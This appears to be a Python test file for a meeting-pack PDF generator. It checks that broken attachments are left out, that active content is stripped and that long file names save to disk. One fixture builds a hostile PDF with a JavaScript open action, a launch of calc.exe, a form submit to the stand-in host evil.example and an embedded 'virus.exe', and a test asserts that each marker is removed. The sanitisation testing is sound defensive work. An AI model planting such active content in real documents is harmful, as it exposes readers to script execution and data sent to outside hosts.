"""The meeting pack with any attachment: a bad PDF is left out with a line on the agenda,
active content never travels with the pack, and names of any length save to disk."""

import io

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from core.file_names import disk_name
from core.meetings import agenda, attachments
from core.meetings.pack import render_pack
from core.meetings.papers import load_papers
from core.output import write_atomically

from .test_documents import pdf_with_pages, text_of


def _without_page_size() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    del writer.pages[0][NameObject("/MediaBox")]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **fields) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in fields.items():
        action[NameObject(f"/{key}")] = value
    return action


def _with_active_content() -> bytes:
    """A PDF with a script on opening, a page action, a launch link, a form submit,
    an embedded file and a plain web link."""
    reader = PdfReader(io.BytesIO(pdf_with_pages(1)))
    writer = PdfWriter()
    writer.append(reader)
    page = writer.pages[0]
    script = _action("/JavaScript", JS=TextStringObject("app.alert('hallo')"))
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(
        _action("/JavaScript", JS=TextStringObject("app.launchURL('x')")))})
    annotations = ArrayObject()
    for action in (_action("/Launch", F=TextStringObject("calc.exe")),
                   _action("/SubmitForm", F=TextStringObject("http://evil.example")),
                   _action("/URI", URI=TextStringObject("https://www.lindewaarde.nl"))):
        annotations.append(writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)]),
            NameObject("/A"): writer._add_object(action)})))
    page[NameObject("/Annots")] = annotations
    writer.add_attachment("virus.exe", b"MZ not really")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_pdf_without_page_size_is_left_out_and_the_pack_is_made(db, meeting_id):
    item = agenda.add_item(db, meeting_id, "Beleidsplan")
    attachments.add_document(db, item, "kapot.pdf", _without_page_size(), "Zonder maat")
    attachments.add_document(db, item, "plan.pdf", pdf_with_pages(2), "Beleidsplan")

    pdf, left_out = render_pack(load_papers(db, meeting_id, with_attachments=True))

    assert left_out == ["Zonder maat"]
    text = text_of(pdf)
    assert "Bijlage pagina 2" in text
    assert "niet in de bundel" in text  # the line on the agenda at that item


def test_active_content_is_removed_from_attachments_in_the_pack(db, meeting_id):
    item = agenda.add_item(db, meeting_id, "Brief")
    attachments.add_document(db, item, "actief.pdf", _with_active_content(), "Actief")

    pdf, left_out = render_pack(load_papers(db, meeting_id, with_attachments=True))

    assert left_out == []
    raw = pdf
    for marker in (b"/JavaScript", b"/OpenAction", b"/Launch", b"/SubmitForm",
                   b"/EmbeddedFiles", b"virus.exe", b"calc.exe", b"app.alert"):
        assert marker not in raw, marker
    reader = PdfReader(io.BytesIO(pdf))
    links = [annotation.get_object()["/A"]["/URI"] for page in reader.pages
             for annotation in page.get("/Annots", [])]
    assert links == ["https://www.lindewaarde.nl"]  # a plain web link stays
    assert "Bijlage pagina 1" in text_of(pdf)


def test_an_attachment_with_a_very_long_name_saves_to_disk(db, meeting_id, tmp_path):
    item = agenda.add_item(db, meeting_id, "Stukken")
    long_name = "Beleidsnotitie " + "héél lang " * 60 + "?:*.pdf"
    attachments.add_document(db, item, long_name, pdf_with_pages(1), "Lang")

    target = write_atomically(tmp_path / disk_name(long_name), pdf_with_pages(1))

    assert target.exists() and target.suffix == ".pdf"
    assert len(target.name.encode("utf-8")) <= 120
    assert target.name.startswith("Beleidsnotitie héél lang")
